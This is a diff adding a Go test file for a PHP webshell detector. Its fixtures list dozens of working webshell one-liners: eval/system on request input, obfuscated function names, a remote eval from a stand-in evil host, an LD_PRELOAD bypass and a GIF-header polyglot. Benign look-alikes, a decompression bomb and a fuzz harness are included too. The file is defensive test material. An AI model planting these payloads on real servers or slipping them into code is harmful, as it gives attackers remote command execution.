@@ -1,0 +1,192 @@
+package php
+
+import (
+	"bytes"
+	"compress/flate"
+	"encoding/base64"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/yingji/yingji/internal/webshell/verdict"
+)
+
+// probes are webshell idioms written for these tests (never run): each must
+// be reported with the rule given.
+var probes = []struct{ name, rule, src string }{
+	{"chopper one-liner", "php.exec-input", `<?php @eval($_POST['pass']);?>`},
+	{"assert request", "php.exec-input", `<?php assert($_REQUEST["x"]);`},
+	{"system get", "php.exec-input", `<?php system($_GET['cmd']);`},
+	{"backtick", "php.exec-input", "<?php echo `{$_GET['c']}`;"},
+	{"variable passes", "php.exec-input", `<?php $a = $_COOKIE['k']; $b = $a; passthru($b);`},
+	{"variable function from input", "php.dynamic-call-input", `<?php $_GET['f']($_POST['x']);`},
+	{"hidden system name", "php.hidden-call", `<?php $f = 'sys' . 'tem'; $f($x);`},
+	{"rot13 name", "php.exec-input", `<?php $f = str_rot13('flfgrz'); $f($_POST[1]);`},
+	{"base64 name", "php.exec-input", `<?php $f = base64_decode('YXNzZXJ0'); $f($_POST['z']);`},
+	{"chr name", "php.exec-input", `<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_REQUEST['a']);`},
+	{"xor name", "php.exec-input", `<?php $f = ("#"^"|").("."^"~"); $g = "assert"; $g(${"_PO"."ST"}['x']);`},
+	{"not name", "php.exec-input", "<?php $f = ~\"\x9e\x8c\x8c\x9a\x8d\x8b\"; $f($_POST['a']);"},
+	{"hidden superglobal", "php.exec-input", `<?php $k = '_' . 'POST'; eval(${$k}['c']);`},
+	{"globals superglobal", "php.exec-input", `<?php eval($GLOBALS['_GET']['c']);`},
+	{"eval decoded layers", "php.eval-decoded", `<?php eval(gzinflate(base64_decode('S81JzlcoSS0u0S0oyi9JTVHISM3JyQcA')));`},
+	{"eval decoded shell", "php.exec-input", `<?php eval(base64_decode('ZXZhbCgkX1BPU1RbJ2EnXSk7'));`},
+	{"strrev assert", "php.exec-input", `<?php $a = strrev('tressa'); $a($_POST['c']);`},
+	{"create_function", "php.exec-input", `<?php $f = create_function('', $_POST['c']); $f();`},
+	{"create_function callback", "php.exec-input", `<?php preg_replace_callback('/.+/', create_function('$m', 'return assert($m[0]);'), $_REQUEST['op']);`},
+	{"preg_replace e", "php.exec-input", `<?php preg_replace('/.*/e', $_POST['code'], '');`},
+	{"array_map assert", "php.exec-input", `<?php array_map('assert', array($_POST['x']));`},
+	{"call_user_func", "php.exec-input", `<?php call_user_func('system', $_GET['c']);`},
+	{"usort callback", "php.dynamic-call-input", `<?php usort($_GET, $_POST['f']);`},
+	{"register_shutdown", "php.exec-input", `<?php register_shutdown_function('assert', $_POST['x']);`},
+	{"closure callback", "php.exec-input", `<?php array_map(function($c) { eval($c); }, $_POST);`},
+	{"wrapper function", "php.exec-input", `<?php function run($c) { return shell_exec($c); } echo run($_POST['cmd']);`},
+	{"wrapper two deep", "php.exec-input", `<?php function a($c) { b($c); } function b($d) { system($d); } a($_GET['x']);`},
+	{"decoder function", "php.exec-input", `<?php function d($s) { return base64_decode(strrev($s)); } $f = d('=QHcpxWZ'); $f = 'system'; $f($_GET['c']);`},
+	{"destruct gadget", "php.exec-input", `<?php class A { public $c; function __destruct() { eval($this->c); } } $o = new A; $o->c = $_POST['p'];`},
+	{"include input", "php.include-input", `<?php include($_GET['page']);`},
+	{"include php input", "php.include-input", `<?php include 'php://input';`},
+	{"php input eval", "php.exec-input", `<?php eval(file_get_contents('php://input'));`},
+	{"header input", "php.exec-input", `<?php eval($_SERVER['HTTP_X_CMD']);`},
+	{"getallheaders", "php.exec-input", `<?php $h = getallheaders(); system($h['Cmd']);`},
+	{"extract", "php.exec-input", `<?php extract($_POST); eval($code);`},
+	{"parse_str", "php.exec-input", `<?php parse_str($_SERVER['QUERY_STRING'], $q); assert($q['a']);`},
+	{"remote eval", "php.exec-input", `<?php eval(file_get_contents('http://evil.invalid/x.txt'));`},
+	{"uploader", "php.upload", `<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name']);`},
+	{"write shell", "php.write-input", `<?php file_put_contents($_POST['path'], $_POST['content']);`},
+	{"ld_preload", "php.bypass", `<?php putenv("LD_PRELOAD=/tmp/x.so"); mail("a", "b", "c");`},
+	{"reflection", "php.dynamic-call-input", `<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);`},
+	{"image header", "php.exec-input", "GIF89a\n<?php eval($_POST[0]); ?>"},
+	{"utf16", "php.exec-input", "\xff\xfe<\x00?\x00p\x00h\x00p\x00 \x00e\x00v\x00a\x00l\x00(\x00$\x00_\x00P\x00O\x00S\x00T\x00[\x001\x00]\x00)\x00;\x00"},
+	{"self-concat obfuscator", "php.exec-input", `<?php $a = 'as'; $a .= 'se'; $a .= $a[0] === 'a' ? 'rt' : 'x'; $a($_POST['c']);`},
+	{"file manager", "php.file-manager", `<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f; if (isset($_GET['del'])) unlink($_GET['del']);
+		if (isset($_GET['read'])) readfile($_GET['read']); chmod($_POST['p'], 0777); rename($_POST['a'], $_POST['b']);`},
+}
+
+// benign are legitimate code that uses the same functions: none may be
+// reported.
+var benign = []struct{ name, src string }{
+	{"fixed command", `<?php echo shell_exec('uptime');`},
+	{"escaped argument", `<?php system('ping -c 1 ' . escapeshellarg($_GET['host']));`},
+	{"numeric argument", `<?php exec('kill ' . intval($_POST['pid']));`},
+	{"template eval", `<?php function render($tpl) { $code = compile($tpl); eval('?>' . $code); } render(file_get_contents('tpl/index.html'));`},
+	{"assert boolean", `<?php assert($count > 0); assert(is_array($x) && count($x) == 2);`},
+	{"router callback", `<?php $action = $_GET['a']; call_user_func(array($this, 'action_' . $action));`},
+	{"prefixed dispatcher", `<?php $fn = 'page_' . $_GET['p']; if (function_exists($fn)) { $fn(); }`},
+	{"safe upload", `<?php $name = basename($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], UPLOAD_DIR . '/' . md5($name) . '.jpg');`},
+	{"config writer", `<?php file_put_contents('config.php', "<?php\n\$db = " . var_export($_POST['db'], true) . ";\n");`},
+	{"include whitelist", `<?php $p = in_array($_GET['p'], array('home', 'about')) ? $_GET['p'] : 'home'; include 'pages/' . $p . '.php';`},
+	{"chinese text", "<?php\n// 这是一个中文注释，包含大量的中文字符用于测试\n$title = '欢迎访问我们的网站，这里有最新的新闻和公告';\necho $title;"},
+	{"preg_replace plain", `<?php echo preg_replace('/\s+/', ' ', $_POST['text']);`},
+	{"array_map trim", `<?php $a = array_map('trim', $_POST['list']);`},
+	{"usort closure", `<?php usort($rows, function($a, $b) { return strcmp($a['n'], $b['n']); });`},
+	{"encoded image data", `<?php header('Content-Type: image/png'); echo base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==');`},
+	{"installer eval", `<?php $ver = '8.1'; eval('$ok = version_compare(PHP_VERSION, "' . $ver . '", ">=");');`},
+	{"read own file", `<?php $lines = file(__FILE__); echo count($lines);`},
+}
+
+func TestProbes(t *testing.T) {
+	for _, p := range probes {
+		t.Run(p.name, func(t *testing.T) {
+			ds := Analyze([]byte(p.src))
+			if verdict.Max(ds) < verdict.Report {
+				t.Fatalf("not reported: %+v", ds)
+			}
+			for _, d := range ds {
+				if d.Rule == p.rule && d.Score >= verdict.Report {
+					if d.Why == "" || d.WhyZh == "" {
+						t.Errorf("%s without explanation", d.Rule)
+					}
+					return
+				}
+			}
+			t.Errorf("rule %s not reported; got %+v", p.rule, ds)
+		})
+	}
+}
+
+func TestBenign(t *testing.T) {
+	for _, b := range benign {
+		t.Run(b.name, func(t *testing.T) {
+			if ds := Analyze([]byte(b.src)); verdict.Max(ds) >= verdict.Report {
+				t.Errorf("reported: %+v", ds)
+			}
+		})
+	}
+}
+
+// TestExplanation checks that a detection names its source, its decoding
+// steps and its sink with the right lines.
+func TestExplanation(t *testing.T) {
+	src := "<?php\n$k = $_POST['k'];\n$f = base64_decode('c3lzdGVt');\n$f($k);\n"
+	ds := Analyze([]byte(src))
+	for _, d := range ds {
+		if d.Rule != "php.exec-input" {
+			continue
+		}
+		if d.Source == nil || d.Source.Line != 2 || !strings.Contains(d.Source.What, "_POST") {
+			t.Errorf("source = %+v", d.Source)
+		}
+		if d.Sink == nil || d.Sink.Line != 4 || d.Sink.What != "system" {
+			t.Errorf("sink = %+v", d.Sink)
+		}
+		return
+	}
+	t.Fatalf("no exec-input detection: %+v", ds)
+}
+
+// TestHostile checks bounded time and memory on adversarial shapes.
+func TestHostile(t *testing.T) {
+	bomb := "<?php eval(gzinflate(base64_decode('" + gzBomb(t) + "')));"
+	cases := map[string]string{
+		"deep parens":     "<?php " + strings.Repeat("(", 200000) + "1" + strings.Repeat(")", 200000) + ";",
+		"deep closures":   "<?php " + strings.Repeat("function(){", 5000) + strings.Repeat("}", 5000),
+		"long concat":     "<?php $a = " + strings.Repeat("'a'.", 100000) + "'b'; eval($a);",
+		"self growth":     "<?php $a = 'x';" + strings.Repeat("$a .= $a;", 64) + " eval($a);",
+		"one long line":   "<?php $x = '" + strings.Repeat("QUJD", 4<<20) + "'; eval(base64_decode($x));",
+		"many functions":  "<?php " + strings.Repeat("function f($a){return g($a);} function g($b){return f($b);} ", 2000) + "eval(f($_GET[1]));",
+		"decompress bomb": bomb,
+	}
+	for name, src := range cases {
+		t.Run(name, func(t *testing.T) {
+			done := make(chan struct{})
+			go func() { Analyze([]byte(src)); close(done) }()
+			select {
+			case <-done:
+			case <-time.After(60 * time.Second): // a hang, not a speed check
+				t.Fatal("analysis did not finish")
+			}
+		})
+	}
+}
+
+func FuzzAnalyze(f *testing.F) {
+	for _, p := range probes {
+		f.Add([]byte(p.src))
+	}
+	for _, b := range benign {
+		f.Add([]byte(b.src))
+	}
+	f.Fuzz(func(t *testing.T, b []byte) {
+		for _, d := range Analyze(b) {
+			if d.Score < 0 || d.Score > 100 || d.Rule == "" {
+				t.Fatalf("bad detection %+v", d)
+			}
+		}
+	})
+}
+
+// gzBomb returns base64 of raw deflate data that inflates to 1 GiB of
+// zeros.
+func gzBomb(t *testing.T) string {
+	var buf bytes.Buffer
+	w, err := flate.NewWriter(&buf, flate.BestCompression)
+	if err != nil {
+		t.Fatal(err)
+	}
+	zero := make([]byte, 1<<20)
+	for range 1024 {
+		w.Write(zero)
+	}
+	w.Close()
+	return base64.StdEncoding.EncodeToString(buf.Bytes())
+}
